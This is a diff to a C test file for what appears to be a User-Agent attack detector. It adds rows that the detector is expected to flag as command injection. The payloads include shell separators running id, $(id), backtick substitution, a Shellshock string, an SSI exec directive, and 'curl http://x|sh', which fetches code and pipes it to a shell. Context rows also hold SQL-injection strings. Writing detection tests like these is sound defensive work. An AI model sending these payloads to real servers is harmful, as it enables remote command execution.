@@ -333,6 +333,25 @@ static const struct exit_case ua_cases[] = {
 	{"Mozilla/5.0 (Windows NT 10.0; xp_cmdshell)", 0, PAYLOAD_SQLI, 85, "mssql procedure"},
 	{"Mozilla/5.0 (X11; mysql.user)", 0, PAYLOAD_SQLI, 80, "system catalog access"},
 	{"Mozilla/5.0 (X11; information_schema.tables)", 0, PAYLOAD_SQLI, 80, "system catalog access"},
+	/* past payload_shape.c's UA grammar (cmdi is not asked on it): a
+	 * byte out of G1 ('|', '$', '`', '&', NL, '{', quotes, '%') */
+	{"Mozilla/5.0 (X11; Linux) ;id", 0, PAYLOAD_CMDI, 80, "command after shell separator"},
+	{"Mozilla/5.0 $(id)", 0, PAYLOAD_CMDI, 85, "command after shell separator"},
+	{"Mozilla/5.0 `id`", 0, PAYLOAD_CMDI, 85, "command after shell separator"},
+	{"Mozilla/5.0 (compatible; curl http://x|sh)", 0, PAYLOAD_CMDI, 80, "command after shell separator"},
+	{"() { :;}; /bin/id", 0, PAYLOAD_CMDI, 90, "command after shell separator"},
+	{"Mozilla/5.0 (X11; Linux) & id", 0, PAYLOAD_CMDI, 80, "command after shell separator"},
+	{"Mozilla/5.0 (X11; Linux) <!--#exec cmd=\"x\"-->", 0, PAYLOAD_CMDI, 90, "ssi exec directive"},
+	/* every condition held but G4: one word that is no UA word (each row
+	 * is missed if its word joined payload_shape_ua_words[]) */
+	{"Mozilla/5.0 (X11; id)", 0, PAYLOAD_CMDI, 80, "command after shell separator"},
+	{"Mozilla/5.0 (X11; whoami)", 0, PAYLOAD_CMDI, 80, "command after shell separator"},
+	{"Mozilla/5.0 (Windows NT 10.0; ipconfig)", 0, PAYLOAD_CMDI, 80, "command after shell separator"},
+	{"Mozilla/5.0 (X11; pwd)", 0, PAYLOAD_CMDI, 80, "command after shell separator"},
+	{"Mozilla/5.0 (X11; Linux; ps aux)", 0, PAYLOAD_CMDI, 80, "command after shell separator"},
+	{"Mozilla/5.0 (X11; Linux; sleep 5)", 0, PAYLOAD_CMDI, 75, "command after shell separator"},
+	{"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 (system; id)", 0,
+	 PAYLOAD_CMDI, 80, "command after shell separator"},
 };
 
 static void test_ua_attacks_found(void **st)
